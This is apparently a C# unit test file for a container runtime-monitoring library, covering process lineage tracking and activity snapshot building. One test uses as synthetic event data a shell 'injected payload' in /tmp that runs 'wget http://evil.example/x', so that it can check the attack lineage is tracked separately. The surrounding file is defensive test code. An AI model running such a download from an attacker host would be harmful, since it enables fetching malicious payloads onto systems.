using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Identity;
using WorkloadProfiles.Domain.Snapshots;
using WorkloadProfiles.Domain.Signals;
using static WorkloadProfiles.Domain.Tests.Events;

namespace WorkloadProfiles.Domain.Tests;

public class ProcessTableTests
{
    private static readonly ulong Nginx = NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "/usr/sbin/nginx");

    [Fact]
    public void Fork_inherits_and_exec_moves_to_a_child_node()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
        table.Apply(Fork(2, 1, 7));
        Assert.Equal(Nginx, table.NodeOf(7, "nginx"));

        table.Apply(Exec(3, 7, "/bin/sh", "sh", "-c", "logrotate"));
        var shell = NodeIdentity.Compute(Nginx, NodeKind.Process, "/bin/sh -c *");
        Assert.Equal(shell, table.NodeOf(7, "sh"));
        Assert.Equal(Nginx, table.NodeOf(1, "nginx"));

        Assert.Equal(["/usr/sbin/nginx", "/bin/sh"], table.Ancestry(7, "sh").Select(p => p.ExecutablePath));
        Assert.Equal(shell, NodeIdentity.ProcessNodeOf(table.Ancestry(7, "sh")));
        Assert.Equal(2, table.Count);
    }

    [Fact]
    public void Exec_of_an_unseen_pid_hangs_under_its_parent_pid()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/usr/sbin/nginx"));
        table.Apply(ExecChild(2, 50, 1, "/usr/bin/id"));
        Assert.Equal(NodeIdentity.Compute(Nginx, NodeKind.Process, "/usr/bin/id"), table.NodeOf(50, "id"));
    }

    [Fact]
    public void Re_exec_of_the_same_program_stays_on_its_node_and_a_different_program_nests()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/usr/sbin/nginx"));
        for (var i = 0; i < 50; i++) table.Apply(Exec(2 + i, 1, "/usr/sbin/nginx"));
        Assert.Equal(Nginx, table.NodeOf(1, "nginx"));
        Assert.Equal(1, table.NodeCount);

        table.Apply(Exec(100, 1, "/bin/sh", "sh", "-c", "nginx -s reload"));
        var shell = table.NodeOf(1, "sh");
        Assert.NotEqual(Nginx, shell);
        Assert.Equal(["/usr/sbin/nginx", "/bin/sh"], table.Ancestry(1, "sh").Select(p => p.ExecutablePath));
    }

    [Fact]
    public void Unknown_pid_hangs_under_the_root_keyed_by_comm_and_exit_forgets_the_pid()
    {
        var table = new ProcessTable();
        var node = table.NodeOf(99, "postgres");
        Assert.Equal(NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "postgres"), node);
        Assert.Equal(node, NodeIdentity.ProcessNodeOf(table.Ancestry(99, "postgres")));

        table.Apply(Exit(5, 99));
        Assert.Equal(0, table.Count);
        Assert.Equal(NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "worker"), table.NodeOf(99, "worker"));
    }

    [Fact]
    public void Two_processes_of_one_node_keep_their_own_arguments_pids_and_parents()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "health-check loop") with { ProcessStartUs = 10 });
        table.Apply(ExecChild(2, 20, 1, "/usr/bin/wget", "wget", "http://127.0.0.1/health") with { ProcessStartUs = 20 });
        table.Apply(ExecChild(3, 30, 0, "/bin/sh", "sh", "-c", "injected payload") with { ProcessStartUs = 30, WorkingDirectory = "/tmp" });
        table.Apply(ExecChild(4, 40, 30, "/usr/bin/wget", "wget", "http://evil.example/x") with { ProcessStartUs = 40 });

        Assert.Equal(table.NodeOf(20, "wget"), table.NodeOf(40, "wget"));
        var health = table.Ancestry(20, "wget");
        var attack = table.Ancestry(40, "wget");
        Assert.Equal(["sh -c health-check loop", "wget http://127.0.0.1/health"], health.Select(p => string.Join(' ', p.Args)));
        Assert.Equal(["sh -c injected payload", "wget http://evil.example/x"], attack.Select(p => string.Join(' ', p.Args)));
        Assert.Equal([(30, 30L), (40, 40L)], attack.Select(p => (p.Pid, p.StartUs)));
        Assert.Equal("/tmp", table.ImageOf(30, "sh").WorkingDirectory);
        Assert.Equal(table.NodeOf(40, "wget"), NodeIdentity.ProcessNodeOf(attack));
    }

    [Fact]
    public void A_forked_child_runs_its_parents_image_until_it_execs_and_a_re_exec_updates_the_arguments()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "loop") with { ProcessStartUs = 5 });
        table.Apply(Fork(2, 1, 2));
        Assert.Same(table.ImageOf(1, "sh"), table.ImageOf(2, "sh"));
        Assert.Equal(1, table.NodeCount);

        // The same program again (a /proc rescan, a restarting supervisor): same node, its new arguments shown.
        table.Apply(Exec(3, 2, "/bin/sh", "sh", "-c", "other script"));
        Assert.Equal(table.NodeOf(1, "sh"), table.NodeOf(2, "sh"));
        Assert.Equal(["sh", "-c", "other script"], table.Ancestry(2, "sh")[^1].Args);
        Assert.Equal(["sh", "-c", "loop"], table.Ancestry(1, "sh")[^1].Args);
    }

    [Fact]
    public void An_image_outlives_its_process_while_a_descendant_runs()
    {
        var table = new ProcessTable();
        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "spawn"));
        table.Apply(ExecChild(2, 2, 1, "/usr/bin/python3", "python3", "worker.py"));
        table.Apply(Exit(3, 1));

        var restored = ProcessTable.Restore(table.Export());
        Assert.Equal(["sh -c spawn", "python3 worker.py"], restored.Ancestry(2, "python3").Select(p => string.Join(' ', p.Args)));
        Assert.Equal(1, restored.Count);
    }
}

public class SnapshotBuilderTests
{
    private static readonly ContainerRef Web1 = new("c1", "nginx", "1.27");
    private static readonly ContainerRef Web2 = new("c2", "nginx", "1.27");

    /// <summary>One nginx container's window: entrypoint shell, nginx master and worker, a config read, a log write, DNS, connect.</summary>
    private static IEnumerable<RawEvent> NginxWorkload(int pidBase, long t0)
    {
        var master = pidBase + 1;
        var worker = pidBase + 2;
        yield return Exec(t0, master, "/bin/sh", "sh", "/docker-entrypoint.sh", "nginx");
        yield return Exec(t0 + 1, master, "/usr/sbin/nginx", "nginx", "-g", "daemon off;");
        yield return Open(t0 + 2, master, "/etc/nginx/nginx.conf");
        yield return Fork(t0 + 3, master, worker, "nginx");
        yield return Open(t0 + 4, worker, $"/var/log/nginx/access-{pidBase}0000.log", 0x1 | 0x40);
        yield return Dns(t0 + 5, worker, "Upstream.Internal.");
        yield return Connect(t0 + 6, worker, "10.0.0.5", 8080);
        yield return Open(t0 + 7, worker, $"/proc/{worker}/status");
    }

    [Fact]
    public void Two_containers_running_the_same_workload_produce_identical_node_ids()
    {
        var a = new SnapshotBuilder(Web1, "host-a", 0, 1_800_000_000);
        a.AddRange(NginxWorkload(100, 1_000));
        var b = new SnapshotBuilder(Web2, "host-b", 0, 1_800_000_000);
        b.AddRange(NginxWorkload(4_000, 9_000));

        var sa = a.Build();
        var sb = b.Build();

        Assert.Equal(sa.Nodes.Select(n => (n.Id, n.Key)), sb.Nodes.Select(n => (n.Id, n.Key)));
        Assert.NotEqual(sa.SnapshotId, sb.SnapshotId);
    }

    [Fact]
    public void Builds_the_tree_with_leaves_under_the_acting_process()
    {
        var builder = new SnapshotBuilder(Web1, "host-a", 1_000, 2_000);
        builder.AddRange(NginxWorkload(100, 1_000));
        var snapshot = builder.Build();

        var entry = NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "/bin/sh /docker-entrypoint.sh");
        var nginx = NodeIdentity.Compute(entry, NodeKind.Process, "/usr/sbin/nginx");
        var byKey = snapshot.Nodes.ToDictionary(n => n.Key);

        Assert.Equal(7, snapshot.Nodes.Count);
        Assert.Equal(entry, byKey["/bin/sh /docker-entrypoint.sh"].Id);
        Assert.Equal(NodeIdentity.Root, byKey["/bin/sh /docker-entrypoint.sh"].ParentId);
        Assert.Equal(entry, byKey["/usr/sbin/nginx"].ParentId);
        Assert.Equal(nginx, byKey["/usr/sbin/nginx"].Id);
        Assert.All(snapshot.Nodes.Where(n => n.Kind != NodeKind.Process), n => Assert.Equal(nginx, n.ParentId));

        Assert.Equal(FileAccessMode.Read, byKey["/etc/nginx/nginx.conf"].Access);
        Assert.Equal(FileAccessMode.Write, byKey["/var/log/nginx/access-*.log"].Access);
        Assert.Equal(NodeKind.Dns, byKey["upstream.internal"].Kind);
        Assert.Equal(NodeKind.Network, byKey["tcp/8080/private"].Kind);
        Assert.True(byKey.ContainsKey("/proc/*/status"));

        // Exec on the new node; fork on the acting node; leaves extend their process's first/last seen.
        Assert.Equal(2, byKey["/usr/sbin/nginx"].EventCount);
        Assert.Equal(1_001, byKey["/usr/sbin/nginx"].FirstSeenUs);
        Assert.Equal(1_007, byKey["/usr/sbin/nginx"].LastSeenUs);

        Assert.Equal(ActivitySnapshot.MakeId("c1", 1_000), snapshot.SnapshotId);
        Assert.Equal(8, snapshot.EventCount);
        Assert.Equal(1_000, snapshot.FirstEventUs);
        Assert.Equal(1_007, snapshot.LastEventUs);
        Assert.False(snapshot.Truncated);
        Assert.False(snapshot.ClosedByExit);
        Assert.Equal(snapshot.Nodes.Select(n => n.Id).Order(), snapshot.Nodes.Select(n => n.Id));
    }

    [Fact]
    public void Events_on_the_same_node_accumulate_and_access_is_the_union()
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100);
        builder.Add(Exec(1, 1, "/app/server"));
        builder.Add(Open(5, 1, "/data/state.db"));
        builder.Add(Open(3, 1, "/data/state.db", 0x2));
        builder.Add(Open(9, 1, "/data/state.db"));
        var node = builder.Build().Nodes.Single(n => n.Kind == NodeKind.File);
        Assert.Equal(3, node.EventCount);
        Assert.Equal(3, node.FirstSeenUs);
        Assert.Equal(9, node.LastSeenUs);
        Assert.Equal(FileAccessMode.Read | FileAccessMode.Write, node.Access);
    }

    [Theory]
    [InlineData(0x0, FileAccessMode.Read)]
    [InlineData(0x80000, FileAccessMode.Read)] // O_CLOEXEC
    [InlineData(0x1, FileAccessMode.Write)]
    [InlineData(0x2, FileAccessMode.Write)]
    [InlineData(0x40, FileAccessMode.Write)]
    [InlineData(0x200, FileAccessMode.Write)]
    public void Open_flags_decide_access(int flags, FileAccessMode access)
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100);
        builder.Add(Open(1, 1, "/f", flags));
        Assert.Equal(access, builder.Build().Nodes.Single(n => n.Kind == NodeKind.File).Access);
    }

    [Fact]
    public void Node_cap_truncates_explicitly_and_keeps_the_tree_connected()
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100, new SnapshotLimits { MaxNodes = 5, SiblingCollapseThreshold = 1_000 });
        builder.Add(Exec(1, 1, "/app/server"));
        for (var i = 0; i < 10; i++) builder.Add(Open(2 + i, 1, $"/data/f{i}"));
        builder.Add(Open(50, 1, "/data/f9")); // the same dropped node again counts once
        builder.Add(Exec(60, 2, "/bin/true")); // a process node beyond the cap

        var snapshot = builder.Build();

        Assert.True(snapshot.Truncated);
        Assert.Equal(5, snapshot.Nodes.Count);
        Assert.Equal(7, snapshot.DroppedNodes); // f4..f9 and /bin/true
        var ids = snapshot.Nodes.Select(n => n.Id).ToHashSet();
        Assert.All(snapshot.Nodes, n => Assert.True(n.ParentId == NodeIdentity.Root || ids.Contains(n.ParentId)));
        Assert.Equal(13, snapshot.EventCount);
    }

    [Fact]
    public void Long_keys_are_truncated_deterministically_and_counted()
    {
        var limits = new SnapshotLimits { MaxKeyLength = 64 };
        var path = "/data/" + new string('q', 200);
        var build = () =>
        {
            var builder = new SnapshotBuilder(Web1, "h", 0, 100, limits);
            builder.Add(Exec(1, 1, "/app/" + new string('p', 100)));
            builder.Add(Open(2, 1, path));
            return builder.Build();
        };
        var first = build();
        Assert.Equal(2, first.TruncatedKeys);
        Assert.All(first.Nodes, n => Assert.True(n.Key.Length <= 64));
        Assert.Equal(first.Nodes.Select(n => n.Id), build().Nodes.Select(n => n.Id));
        Assert.False(first.Truncated); // nothing is missing, only shortened
    }

    [Fact]
    public void Siblings_of_one_shape_collapse_into_a_pattern_node()
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100, new SnapshotLimits { SiblingCollapseThreshold = 3 });
        builder.Add(Exec(1, 1, "/app/server"));
        foreach (var (name, at) in new[] { ("alpha", 2), ("beta", 3), ("gamma", 4), ("delta", 5) })
            builder.Add(Open(at, 1, $"/var/cache/app/{name}.json", name == "beta" ? 0x1 : 0));
        builder.Add(Open(6, 1, "/var/cache/app/index.html"));

        var files = builder.Build().Nodes.Where(n => n.Kind == NodeKind.File).ToDictionary(n => n.Key);

        Assert.Equal(["/var/cache/app/*.json", "/var/cache/app/index.html"], files.Keys.Order(StringComparer.Ordinal));
        var pattern = files["/var/cache/app/*.json"];
        Assert.Equal(4, pattern.EventCount);
        Assert.Equal(2, pattern.FirstSeenUs);
        Assert.Equal(5, pattern.LastSeenUs);
        Assert.Equal(FileAccessMode.Read | FileAccessMode.Write, pattern.Access);
        Assert.Equal(NodeIdentity.Compute(pattern.ParentId, NodeKind.File, "/var/cache/app/*.json"), pattern.Id);
    }

    [Fact]
    public void Container_exit_closes_the_window_and_dropped_events_are_summed()
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100);
        builder.AddBatch(new RawEventBatch { Container = Web1, HostName = "h", DroppedEvents = 3, Events = [Exec(1, 1, "/app/server")] });
        builder.AddDropped(2);
        Assert.False(builder.Build().ClosedByExit);
        builder.Add(ContainerExit(9));
        var snapshot = builder.Build();
        Assert.True(snapshot.ClosedByExit);
        Assert.Equal(5, snapshot.DroppedEvents);
        Assert.True(new SnapshotBuilder(Web1, "h", 0, 100).Build(closedByExit: true).ClosedByExit);
    }

    [Fact]
    public void Invalid_events_are_skipped_counted_and_explained()
    {
        RawEvent[] bad =
        [
            new() { Kind = EventKind.Open, TimestampUs = 1, Pid = 1 },
            new() { Kind = EventKind.Exec, TimestampUs = 1, Pid = 1 },
            new() { Kind = EventKind.Dns, TimestampUs = 1, Pid = 1 },
            new() { Kind = EventKind.Fork, TimestampUs = 1, Pid = 1 },
            new() { Kind = EventKind.Connect, TimestampUs = 1, Pid = 1, DestinationPort = 70_000 },
            new() { Kind = (EventKind)42, TimestampUs = 1, Pid = 1 },
        ];
        Assert.Equal("open event without file.path", SnapshotBuilder.Validate(bad[0]));
        Assert.Equal("unknown event kind 42", SnapshotBuilder.Validate(bad[5]));
        Assert.All(bad, e => Assert.NotNull(SnapshotBuilder.Validate(e)));

        var builder = new SnapshotBuilder(Web1, "h", 0, 100);
        builder.AddRange(bad);
        builder.Add(Open(2, 1, "/ok"));
        var snapshot = builder.Build();
        Assert.Equal(6, snapshot.InvalidEvents);
        Assert.Equal(1, snapshot.EventCount);
    }

    [Fact]
    public void Process_table_carries_lineage_into_the_next_window()
    {
        var first = new SnapshotBuilder(Web1, "h", 0, 100);
        first.Add(Exec(1, 1, "/usr/sbin/nginx"));
        first.Build();

        var next = new SnapshotBuilder(Web1, "h", 100, 200, processes: first.Processes);
        next.Add(Open(150, 1, "/etc/hosts"));
        var snapshot = next.Build();

        var nginx = NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "/usr/sbin/nginx");
        Assert.Contains(snapshot.Nodes, n => n.Id == nginx && n.EventCount == 0 && n.FirstSeenUs == 150);
        Assert.Contains(snapshot.Nodes, n => n.Key == "/etc/hosts" && n.ParentId == nginx);
    }

    [Fact]
    public void Signal_behaviour_maps_to_the_snapshot_node()
    {
        var builder = new SnapshotBuilder(Web1, "h", 0, 100);
        builder.AddRange(NginxWorkload(100, 0));
        var snapshot = builder.Build();
        var behaviour = new Behaviour
        {
            Kind = NodeKind.Dns,
            Ancestry = builder.Processes.Ancestry(102, "nginx"),
            DnsQuestionName = "upstream.internal",
        };
        Assert.Contains(snapshot.Nodes, n => n.Id == NodeIdentity.ForBehaviour(behaviour) && n.Key == "upstream.internal");
    }

    [Fact]
    public void An_exited_process_is_forgotten_and_a_reused_pid_starts_from_its_new_parent()
    {
        var builder = new SnapshotBuilder(new ContainerRef("c-exit", "img", "1"), "h", 0, 1_000);
        builder.Add(Events.Exec(1, 7, "/bin/sh", "sh", "/app/run.sh"));
        builder.Add(Events.Exit(2, 7));
        Assert.Equal(0, builder.Processes.Count); // not brought back as a guessed process by the exit's own bookkeeping

        builder.Add(Events.Exec(3, 9, "/usr/bin/env"));
        builder.Add(Events.ExecChild(4, 7, 9, "/usr/bin/python3", "python3", "-m", "http.server"));
        Assert.Equal(["/usr/bin/env", "/usr/bin/python3"], builder.Processes.Ancestry(7, "python3").Select(p => p.ExecutablePath));
    }

    [Fact]
    public void An_exec_lands_on_the_same_node_whether_or_not_the_process_was_seen_acting_before_it()
    {
        // A container runtime's init opens files, then execs: whether those opens were captured must not move the tree.
        var seenFirst = new ProcessTable();
        seenFirst.ImageOf(5, "runc:[2:INIT]");
        seenFirst.Apply(Events.Exec(1, 5, "/usr/bin/runc", "runc", "init"));
        seenFirst.Apply(Events.ExecChild(2, 6, 5, "/bin/sh", "sh", "/app/run.sh"));
        var execFirst = new ProcessTable();
        execFirst.Apply(Events.Exec(1, 5, "/usr/bin/runc", "runc", "init"));
        execFirst.Apply(Events.ExecChild(2, 6, 5, "/bin/sh", "sh", "/app/run.sh"));

        Assert.Equal(execFirst.NodeOf(5, "runc"), seenFirst.NodeOf(5, "runc"));
        Assert.Equal(execFirst.NodeOf(6, "sh"), seenFirst.NodeOf(6, "sh"));
        Assert.Equal(["/usr/bin/runc", "/bin/sh"], seenFirst.Ancestry(6, "sh").Select(p => p.ExecutablePath));
    }
}
